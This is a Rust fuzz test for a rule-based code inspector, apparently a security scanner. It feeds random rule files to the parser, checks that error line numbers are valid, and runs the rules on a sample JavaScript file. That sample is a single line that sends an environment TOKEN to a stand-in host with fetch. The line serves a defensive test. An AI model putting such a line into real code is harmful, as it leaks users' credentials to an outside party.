//! The file of a rule: its name in the first line, then its text.

#![no_main]

use libfuzzer_sys::fuzz_target;
use stockade_fuzz::look_at;
use stockade_inspect::{Rules, assess};

fuzz_target!(|data: &str| {
    let (file, text) = data.split_once('\n').unwrap_or((data, ""));
    match Rules::default().with(&[(file.to_owned(), text.to_owned())]) {
        Err(error) => assert!((1..=text.matches('\n').count() + 1).contains(&error.line), "{error}"),
        Ok(rules) => {
            let subject = look_at("index.js", b"fetch('https://collect.invalid/' + process.env.TOKEN)\n");
            assert!(assess(&subject, &[], &[], &rules).findings.len() <= 1);
            assert!(assess(&subject, &[&subject], &[], &rules).findings.len() <= 1);
        }
    }
});
